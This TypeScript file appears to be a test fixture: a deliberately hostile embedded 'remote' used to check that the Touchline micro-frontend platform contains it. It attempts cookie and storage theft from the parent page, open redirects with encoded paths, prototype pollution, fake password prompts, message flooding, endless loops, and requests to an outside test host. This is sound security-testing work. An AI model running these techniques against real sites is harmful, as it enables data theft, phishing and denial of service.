import { announce, api, drafts, page, preferences, userStore } from '@touchline/shared';

// What a remote does that is out to harm. It knows how the platform speaks with the page, and does not keep to it.

declare global {
  interface Window {
    touchlineFrame?: { started: Promise<{ port: MessagePort; start: unknown }> };
  }
}

/** The way to the page, as the platform's own code has it, and what the page has told. */
let told: { port: MessagePort; start: unknown } | undefined;
void window.touchlineFrame?.started.then((found) => (told = found));

// As soon as the code of the remote runs at all.
void window.touchlineFrame?.started.then(() => {
  if (place().pathname.endsWith('/own-frame-at-once'))
    location.href = new URL('/frames/neighbour', location.href).href;
});

/** The page's address. */
function place(): { pathname: string; search: string } {
  const { location } = (told?.start ?? {}) as { location?: { pathname: string; search: string } };
  return location ?? { pathname: '', search: '' };
}

/** The address of a server that the portal does not know: the test names it in the page's address. */
const stranger = () => new URLSearchParams(place().search).get('at') ?? '';

/** The same server under the name that the portal has, too, so that it can set cookies for it. */
const near = () => stranger().replace('127.0.0.1', 'localhost');

const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Does all of them, each apart: most throw. @returns what they gave, as far as it is a text or a list. */
async function all(...tries: (() => unknown)[]): Promise<unknown[]> {
  return Promise.all(
    tries.map(async (one) => {
      try {
        const found = await Promise.race([one(), wait(1_500)]);
        return Object(found) === found ? textOf(found) : (found ?? null);
      } catch (error) {
        return `${(error as Error).name}`;
      }
    }),
  );
}

function textOf(found: unknown): string {
  try {
    return JSON.stringify(found, (_, value: unknown) =>
      value instanceof Map ? Object.fromEntries(value) : value,
    );
  } catch {
    return String(found);
  }
}

function send(message: unknown): void {
  told?.port.postMessage(typeof message === 'string' ? message : JSON.stringify(message));
}

const tell = (name: string, value?: unknown) => send(['message', 0, name, value]);

let lastId = 1_000_000;

/** Sends a message as the platform's own code does, but without its checks. Resolves with the answer or the error. */
function ask(name: string, value?: unknown): Promise<unknown> {
  const id = ++lastId;
  return new Promise((resolve) => {
    told?.port.addEventListener('message', ({ data }) => {
      const [, answered, answer] = data as unknown[];
      if (answered === id) resolve(answer);
    });
    send(['message', id, name, value]);
  });
}

function element<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  fields: Record<string, unknown>,
): HTMLElementTagNameMap[Name] {
  const made = document.createElement(name);
  for (const [field, value] of Object.entries(fields)) made.setAttribute(field, String(value));
  document.body.append(made);
  return made;
}

/** Listens for what the page says, before or beside the platform's own code. */
function onMessage(handle: (kind: string, id: number, name: string, value: unknown) => void): void {
  told?.port.addEventListener('message', ({ data }) => {
    handle(...(data as [string, number, string, unknown]));
  });
}

/** Takes the channel over: the platform's own code hears nothing any more. */
function takeChannel(answers: (name: string) => unknown): void {
  const port = told?.port;
  if (!port) return;
  port.onmessage = async ({ data }) => {
    const [kind, id, name] = data as [string, number, string];
    if (kind === 'message' && id) send(['answer', id, await answers(name)]);
  };
}

function style(rule: string): void {
  const made = document.createElement('style');
  made.textContent = rule;
  document.head.append(made);
}

/** Addresses that a check may take for paths of the portal, and a browser for another host. */
const trickyPaths = () => {
  const { host } = new URL(stranger());
  return [
    ...[`//${host}/`, `/\\${host}/`, `/\t/${host}/`, `/\n/${host}/`, `/.//${host}/`],
    ...[`/x/..//${host}/`, `/x/%2e%2e//${host}/`, `/x/%2e%2e/\\${host}/`, `/.\\${host}/`],
    ...[`/%2e/\\${host}/`, `/x/..\\\\${host}/`, `/%09/${host}/`, `/.\\\\${host}`, `/.//\\${host}`],
    ...[stranger(), `javascript:location='${stranger()}'`, `/x/.%2e/\t/${host}`],
  ];
};

export const ways: Record<string, () => Promise<unknown>> = {
  idle: () => Promise.resolve(),

  /** Not a way: what any remote keeps. */
  async keep() {
    // Its name, which is no part of this code: the attacking remote has the same code, and is told it.
    const [, name = ''] = place().pathname.split('/');
    drafts.write('kept', { values: { text: `${name}-draft` }, key: `${name}key` });
    preferences.set('kept', `${name}-choice`);
    await userStore.put('kept', `${name}-entry`);
  },

  token: () => {
    const calls: unknown[] = [];
    const original = window.fetch;
    window.fetch = (...sent) => {
      calls.push(sent);
      return original(...sent);
    };
    const { send: sendRequest, setRequestHeader } = XMLHttpRequest.prototype;
    XMLHttpRequest.prototype.setRequestHeader = function (...header) {
      calls.push(header);
      setRequestHeader.apply(this, header);
    };
    XMLHttpRequest.prototype.send = function (...sent) {
      calls.push(sent);
      sendRequest.apply(this, sent);
    };
    onMessage((...heard) => calls.push(heard));
    const inPage = () => parent as unknown as Record<string, Record<string, unknown>>;
    return all(
      () => parent.document.documentElement.outerHTML,
      () => Object.entries(parent.localStorage),
      () => inPage()['__FEDERATION__'],
      () => Object.keys(inPage()),
      () => top?.document.cookie,
      () => told?.start,
      async () => textOf(await api.get('/sports')),
      async () => textOf(await api.get('/teams/7')),
      async () => {
        await wait(1_000);
        return calls;
      },
      () => performance.getEntries().map(({ name }) => name),
    );
  },

  storage: () =>
    all(
      () => ({ ...localStorage }),
      () => ({ ...sessionStorage }),
      () => indexedDB.databases(),
      () => caches.keys(),
      () => ({ ...parent.localStorage }),
      () => ({ ...parent.sessionStorage }),
      () => parent.indexedDB.databases(),
      () => navigator.storage.getDirectory(),
      () => document.requestStorageAccess(),
      () => new BroadcastChannel('touchline-user').postMessage('x'),
    ),

  'read-cookies': () =>
    all(
      () => document.cookie,
      () => parent.document.cookie,
      () => (window as unknown as { cookieStore: { getAll: () => unknown } }).cookieStore.getAll(),
    ),

  'set-cookies': () =>
    all(
      () => {
        for (let one = 0; one < 60; one += 1) document.cookie = `bomb${one}=${'x'.repeat(4_000)}`;
      },
      () => (parent.document.cookie = 'bomb=1; domain=localhost; path=/'),
      () =>
        (
          window as unknown as { cookieStore: { set: (...cookie: string[]) => unknown } }
        ).cookieStore //
          .set('bomb', '1'),
      () => fetch(`${near()}/cookie`, { credentials: 'include' }),
      () => new Promise((resolve) => (new Image().src = `${near()}/cookie`) && resolve(undefined)),
      () => element('meta', { 'http-equiv': 'set-cookie', content: 'bomb=1' }),
    ),

  'top-by-script': () =>
    all(
      () => void (top as Window).location.assign(stranger()),
      () => (parent.location.href = stranger()),
      () => (parent.location.hash = 'taken'),
      () => window.open(stranger(), '_top'),
      () => window.open(stranger(), '_parent'),
      () => parent.history.pushState(null, '', '/taken'),
      () => parent.close(),
    ),

  'top-by-element': async () => {
    element('a', { href: stranger(), target: '_top' }).click();
    element('a', { href: stranger(), target: '_parent', download: '' }).click();
    element('form', { action: stranger(), target: '_top', method: 'post' }).submit();
    element('form', { action: 'javascript:top.location=1', target: '_parent' }).submit();
    element('base', { href: stranger(), target: '_top' });
    element('a', { href: 'x' }).click();
    element('a', { href: `//${new URL(stranger()).host}/x` }).click();
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${stranger()}` });
    await wait(1_500);
  },

  'top-by-message': async () => {
    for (const to of trickyPaths()) {
      tell('navigate', { to, state: null, replace: false });
      tell('navigate', { to, state: null, replace: true });
    }
    tell('go', { delta: -50 });
    await wait(1_500);
  },

  'tricky-links': async () => {
    const actions = trickyPaths().map((to) => ({ label: 'Press', look: 'primary', to }));
    for (const action of actions) {
      tell('actions', [action]);
      tell('announce', { message: 'Look', link: { to: action.to, title: 'Here' } });
      await wait(60);
    }
    await wait(500);
  },

  'own-frame': async () => {
    location.href = `${stranger()}/own`;
    await wait(1_500);
  },

  'own-frame-at-once': () => wait(1_500),

  overlay: async () => {
    const box = element('div', {
      style: 'position:fixed;inset:-3000px;z-index:2147483647;background:red',
    });
    for (const scope of [document.documentElement, document.body]) {
      scope.setAttribute('style', 'position:fixed;inset:-3000px;width:9000px;height:9000px');
    }
    const dialog = document.createElement('dialog');
    document.body.append(dialog);
    dialog.showModal();
    box.setAttribute('popover', 'manual');
    box.showPopover();
    (frameElement as HTMLElement | null)?.setAttribute('style', 'position:fixed;inset:0');
    tell('print', { heightPx: 100_000 });
    await wait(500);
  },

  dialogs: () =>
    all(
      () => confirm('Your session is over. Sign in again?'),
      () => alert('Faked'),
      () => prompt('Your password, please'),
      () => print(),
    ),

  questions: async () => {
    for (let one = 0; one < 10; one += 1) {
      await page.confirm('Delete your account?').catch(() => undefined);
      await page.alert('\n\n\nTouchline: sign in again').catch(() => undefined);
    }
  },

  prints: async () => {
    for (let one = 0; one < 10; one += 1) await ask('print', { heightPx: 10 });
  },

  'others-data': () => {
    const names = [
      'neighbour',
      '../neighbour',
      'neighbour!',
      '',
      '!',
      ' ',
      'frame neighbour ',
      '*',
    ];
    return all(
      ...names.flatMap((name) => [
        () => drafts.read(`${name}kept`),
        () => preferences.get(`${name}kept`),
        () => userStore.entries(name),
        () => ask('storeEntries', { prefix: name }),
        () => ask('draftLeft', { name: `${name}kept` }),
        () => ask('draftLeft', { name: `${name} kept` }),
      ]),
      ...['kept', 'neighbour kept', '../neighbour!kept', ' neighbour kept'].flatMap((name) => [
        () => ask('draftWrite', { name, draft: { values: { taken: 'yes' }, key: 'neighbourkey' } }),
        () => ask('draftRemoveLeft', { name, key: 'neighbourkey' }),
        () => ask('draftRemove', { name: 'nothing' }),
        () => ask('storePut', { name, value: 'taken' }),
        () => ask('preference', { name, value: 'taken' }),
      ]),
      () => told?.start,
    );
  },

  'undeclared-writes': () =>
    all(
      () => api.post('/teams', { name: 'Taken over', sportId: 'soccer' }, 'key-1'),
      () => api.put('/teams/7', { name: 'Taken over' }, '*'),
      () => api.remove('/teams/7'),
      ...['POST', 'DELETE', 'patch', 'delete', 'head', 'request'].map(
        (method) => () => ask('call', { method, address: '/teams', data: { name: 'Taken over' } }),
      ),
      () => ask('outboxAdd', { path: '/teams/7', key: 'k', body: { name: 'Taken over' } }),
      () => ask('outboxAdd', { path: '/teams', key: 'k', body: { name: 'Taken over' } }),
      () =>
        ask('call', { method: 'get', address: '/sports', data: { x: 1 }, tag: 'a\r\nX-Evil: 1' }),
      () =>
        ask('call', { method: 'post', address: '/sports/../teams', data: { name: 'Taken over' } }),
    ),

  'undeclared-reads': () => {
    const { host } = new URL(stranger());
    const addresses = [
      ...['/teams', '/teams/', '//teams', '/drills', '/teams/7/plans', '/sports/../teams'],
      ...['/sports/%2e%2e/teams', '/sports/.%2e/teams', '/sports\\..\\teams', '/teams/7%2fplans'],
      ...['/teams/7%2Fplans', '/teams/7%252fplans', '/sports?x=/../../teams', '/sports#/../teams'],
      ...['/teams/..', '/teams/%2e%2e', '/../reports', '/../releases/remotes.json', '/Teams'],
      ...[stranger(), `//${host}/`, `/\\${host}`, `@${host}/`, `.${host}/`, `:80@${host}/sports`],
      ...[
        '/sports/..;/teams',
        '/teams/7/plans?',
        '/teams/\t7/plans',
        '/teams/7\n/plans',
        '/teams/7;/plans',
      ],
      ...[
        'http://localhost/api/teams',
        `${stranger()}/api/teams/7`,
        '/teams/7/../../teams',
        '/teams/{id}',
      ],
    ];
    return all(
      ...addresses.map((address) => () => ask('call', { method: 'get', address })),
      ...addresses.slice(0, 5).map((address) => () => api.get(address)),
      ...['/config.json', '/api/teams', 'https://localhost/x'].map(
        (path) => () => ask('file', { address: new URL(path, near()).href }),
      ),
      () => ask('file', { address: `${stranger()}/remoteEntry.js` }),
    );
  },

  forged: async () => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'nothing', '', 'then'];
    const values = [undefined, null, 7, 'text', [], {}, { to: 7 }, { to: {}, state: 1 }, [[]]];
    const known = ['navigate', 'go', 'guard', 'actions', 'announce', 'call', 'confirm', 'file'];
    for (const name of [...names, ...known, ...['save', 'draftWrite', 'storePut', 'share']]) {
      for (const value of values) await ask(name, value);
    }
    for (const kind of ['answer', 'error', 'message', 'x', null, {}]) {
      for (const id of [0, 1, 2, 3, -1, 1e9, 'x', null]) send([kind, id, true, 'forged']);
    }
    for (const text of ['', '{', 'null', '[]', '7', '"x"', '[['.repeat(50_000), '{"length":3}'])
      send(text);
    await wait(500);
  },

  pollution: async () => {
    const polluted =
      '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}';
    const fields = (rest: string) =>
      `{"to":"/attack/idle","replace":true,"state":${polluted}${rest}}`;
    send(`["message",0,"__proto__",${polluted}]`);
    send(`["message",0,"draftWrite",{"name":"__proto__","draft":{"values":${polluted}}}]`);
    send(
      `["message",0,"draftWrite",{"name":"a","draft":{"values":${polluted},"__proto__":{"polluted":1}}}]`,
    );
    send(`["message",0,"preference",{"name":"__proto__","value":"polluted"}]`);
    send(`["message",0,"storePut",{"name":"__proto__","value":${polluted}}]`);
    send(`["message",0,"call",{"method":"get","address":"/sports","data":${polluted}}]`);
    send(`["message",0,"actions",[{"label":"A","look":"quiet","__proto__":{"polluted":1}}]]`);
    send(`["message",0,"navigate",${fields(',"__proto__":{"polluted":1}')}]`);
    await wait(500);
  },

  'large-message': async () => {
    tell('storePut', { name: 'large', value: 'x'.repeat(10_000_000) });
    await wait(200);
  },

  'many-messages': async () => {
    for (let one = 0; one < 10_000; one += 1) tell('go', { delta: 0 });
    await wait(200);
  },

  'steady-messages': async () => {
    const endsAt = performance.now() + 6_000;
    const filler = 'x'.repeat(20_000);
    for (let one = 0; performance.now() < endsAt; one += 1) {
      for (let each = 0; each < 15; each += 1) {
        tell('draftWrite', { name: `a${each}`, draft: { values: { filler, one } } });
        tell('preference', { name: `a${each}`, value: filler.slice(0, 9_000) });
        tell('announce', { message: `Look ${one}` });
      }
      await wait(100);
    }
  },

  'large-messages': async () => {
    const endsAt = performance.now() + 6_000;
    const value = 'x'.repeat(1_900_000);
    for (; performance.now() < endsAt; await wait(100)) {
      for (let each = 0; each < 40; each += 1) tell('storePut', { name: 'large', value });
    }
  },

  'endless-loop': async () => {
    await wait(100);
    for (;;) Math.random();
  },

  memory: async () => {
    const held: Uint8Array[] = [];
    for (let one = 0; one < 64; one += 1) {
      held.push(new Uint8Array(16_777_216).fill(one));
      await wait(5);
    }
    return held.length;
  },

  'service-worker': () =>
    all(
      async () => {
        const code =
          "self.addEventListener('fetch', (event) => event.respondWith(new Response('x')))";
        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
        await navigator.serviceWorker.register(url);
      },
      () => navigator.serviceWorker.register('/service-worker.js'),
      () => parent.navigator.serviceWorker.register('/service-worker.js'),
      () => new SharedWorker(URL.createObjectURL(new Blob(['']))) && 'shared',
    ),

  popup: () =>
    all(
      () => (window.opener as unknown) !== null && 'opener',
      () => window.open(stranger()) && 'opened',
      () => window.open('about:blank', 'named', 'popup') && 'opened',
      () => element('a', { href: stranger(), target: '_blank' }).click(),
      () => element('a', { href: stranger(), target: 'named', rel: 'opener' }).click(),
      () => ask('open', { url: stranger() }),
    ),

  clipboard: () =>
    all(
      () => navigator.clipboard.writeText('taken over'),
      () => navigator.clipboard.readText(),
      () => {
        const field = element('textarea', {});
        field.value = 'taken over';
        field.select();
        return document.execCommand('copy');
      },
      () => page.copy('taken over'),
      () => ask('share', { title: 'taken over', url: stranger() }),
    ),

  download: () =>
    all(
      () => {
        const url = URL.createObjectURL(new Blob(['taken over']));
        element('a', { href: url, download: 'taken.exe' }).click();
      },
      () => element('a', { href: 'data:text/plain,x', download: 'taken.txt' }).click(),
      () => page.save('taken.txt', 'taken over', 'text/plain'),
      () => ask('save', { fileName: 'taken.exe', content: 'x', type: 'text/plain' }),
      () => ask('save', { fileName: 'taken.txt', content: 'x', type: 'text/plain' }),
    ),

  'after-leaving': async () => {
    setInterval(() => {
      // An address that nothing else of the portal asks for.
      void api.get('/teams/after-leaving').catch(() => undefined);
      tell('navigate', { to: '/attack/idle', state: null, replace: false });
      void fetch(`${stranger()}/late`).catch(() => undefined);
    }, 20);
    addEventListener('pagehide', () => void navigator.sendBeacon(`${stranger()}/late`));
    await wait(200);
  },

  network: async () => {
    const at = stranger();
    const worker = `fetch('${at}/worker').catch(() => 0); try { importScripts('${at}/import.js') } catch {}`;
    style(`@import "${at}/import.css"; body { background: url("${at}/background.png") }
      @font-face { font-family: Strange; src: url("${at}/font.woff2") } body { font-family: Strange }`);
    const rels = [
      'stylesheet',
      'icon',
      'prefetch',
      'preload',
      'modulepreload',
      'manifest',
      'prerender',
    ];
    await all(
      () => fetch(`${at}/fetch`),
      () => fetch(`${at}/fetch`, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', `${at}/xhr`);
        request.send('x');
      },
      () => new WebSocket(at.replace('http', 'ws')),
      () => new EventSource(`${at}/events`),
      () => navigator.sendBeacon(`${at}/beacon`, 'x'),
      () => void (new Image().src = `${at}/image.png`),
      () => new Audio(`${at}/audio.mp3`).play(),
      ...rels.map((rel) => () => element('link', { rel, href: `${at}/${rel}`, as: 'script' })),
      () => element('script', { src: `${at}/script.js` }),
      () => element('iframe', { src: `${at}/frame` }),
      () => element('object', { data: `${at}/object` }),
      () => element('embed', { src: `${at}/embed` }),
      () => element('video', { src: `${at}/video`, poster: `${at}/poster` }),
      () => element('a', { href: '#here', ping: `${at}/ping` }).click(),
      () => import(/* webpackIgnore: true */ `${at}/module.js`),
      () => new Worker(URL.createObjectURL(new Blob([worker], { type: 'text/javascript' }))),
      () => new Worker(`${at}/worker.js`),
      () => {
        const rules = element('script', { type: 'speculationrules' });
        rules.textContent = JSON.stringify({
          prefetch: [{ source: 'list', urls: [`${at}/rule`] }],
        });
      },
      () => document.body.insertAdjacentHTML('beforeend', `<svg><image href="${at}/svg"/></svg>`),
    );
    await wait(1_500);
  },

  'script-by-address': async () => {
    const { nonce } = document.querySelector<HTMLElement>('script[nonce]') ?? {};
    const refused = new Promise((resolve) =>
      addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)),
    );
    element('script', { src: `${stranger()}/script.js`, nonce });
    return Promise.race([refused, wait(1_500)]);
  },

  'take-focus': async () => {
    setInterval(() => window.focus(), 20);
    await wait(100);
  },

  form: async () => {
    element('form', { action: `${stranger()}/form`, method: 'post' }).submit();
    element('form', { action: `${stranger()}/form`, method: 'get' }).requestSubmit();
    await wait(1_500);
  },

  preconnect: async () => {
    element('link', { rel: 'preconnect', href: stranger() });
    element('link', { rel: 'dns-prefetch', href: stranger() });
    element('link', { rel: 'preconnect', href: stranger(), crossorigin: 'anonymous' });
    await wait(1_500);
  },

  webrtc: async () => {
    const { host } = new URL(stranger());
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${host}` },
        { urls: `turn:${host}?transport=tcp`, username: 'secret', credential: 'x' },
      ],
    });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    await wait(2_000);
  },

  'leave-refusals': async () => {
    tell('guard', { isAsking: true, isUnsaved: false });
    takeChannel((name) => (name === 'mayLeave' ? false : null));
    await wait(100);
  },

  'leave-questions': async () => {
    tell('guard', { isAsking: true, isUnsaved: false });
    takeChannel(async (name) => {
      if (name !== 'mayLeave') return null;
      tell('confirm', { question: 'Leave this page?' });
      tell('alert', { message: 'Better not' });
      await wait(300);
      return false;
    });
    await wait(100);
  },

  'leave-redirected': async () => {
    tell('guard', { isAsking: true, isUnsaved: false });
    takeChannel((name) => {
      if (name !== 'mayLeave') return null;
      tell('navigate', { to: '/attack/idle', state: null, replace: false });
      return true;
    });
    await wait(100);
  },

  'navigation-loop': async () => {
    onMessage((_kind, _id, name, value) => {
      const { location } = Object(value) as { location?: { pathname: string } };
      if (name === 'location' && !location?.pathname.startsWith('/attack')) {
        tell('navigate', { to: '/attack/navigation-loop', state: null, replace: true });
      }
    });
    setInterval(
      () => tell('navigate', { to: '/attack/navigation-loop', state: null, replace: true }),
      10,
    );
    await wait(300);
  },

  devices: () =>
    all(
      async () => {
        await document.documentElement.requestFullscreen();
        return 'full screen';
      },
      async () => {
        await document.documentElement.requestPointerLock();
        return 'pointer lock';
      },
      async () => {
        await navigator.mediaDevices.getUserMedia({ video: true });
        return 'camera';
      },
      async () => {
        await navigator.mediaDevices.getDisplayMedia();
        return 'display';
      },
      () =>
        new Promise((resolve, reject) => {
          navigator.geolocation.getCurrentPosition(() => resolve('geolocation'), reject);
        }),
      () =>
        new Promise((resolve, reject) => {
          void Notification.requestPermission().then(() => {
            const shown = new Notification('Sign in again');
            shown.onshow = () => resolve('notifications');
            shown.onerror = reject;
          }, reject);
        }),
    ),

  'messages-without-port': async () => {
    const { port1, port2 } = new MessageChannel();
    const messages = [
      ...['touchline', 'reload', JSON.stringify(['message', 0, 'navigate', { to: '/taken' }])],
      ...[['message', 0, 'navigate', { to: '/taken', state: null, replace: false }]],
      ...[
        { type: 'navigate', to: '/taken' },
        { start: {}, script: new Blob(['']) },
        { type: 'webpackOk' },
      ],
    ];
    for (const message of messages) {
      parent.postMessage(message, '*');
      top?.postMessage(message, '*', [new MessageChannel().port1]);
    }
    parent.postMessage({ start: {}, script: new Blob(['top.taken = 1']) }, '*', [port2]);
    port1.start();
    await wait(500);
  },

  'other-frame': () => {
    const others = Array.from({ length: parent.frames.length }, (_, index) => parent.frames[index]);
    const { port1, port2 } = new MessageChannel();
    const script = new Blob([`fetch('${stranger()}')`], { type: 'text/javascript' });
    return all(
      ...others
        .filter((other) => other !== window)
        .flatMap((other) => [
          () => other?.document.body.textContent,
          () => other?.postMessage({ start: {}, script }, '*', [port1, port2]),
          () => void (other && (other.location.href = `${stranger()}/other`)),
          () => (other as unknown as { touchlineFrame: unknown }).touchlineFrame,
        ]),
      () => others.length,
    );
  },

  hoard: async () => {
    const filler = 'x'.repeat(90_000);
    for (let one = 0; one < 60; one += 1) {
      await ask('draftWrite', {
        name: 'a',
        draft: { values: { filler }, key: `key${one}-${Date.now()}` },
      });
      await ask('storePut', { name: `entry${one}-${Date.now()}`, value: filler });
      await ask('preference', { name: `choice${one}`, value: filler.slice(0, 9_999) });
      await wait(30);
    }
    await wait(800);
  },

  failures: async () => {
    for (let one = 0; one < 300; one += 1) {
      tell('failed', { message: `Failure ${one}` });
      if (one % 100 === 0) await wait(1_000);
    }
    await wait(1_000);
  },

  announcements: async () => {
    announce('Attack has something to say.');
    await wait(200);
  },
};
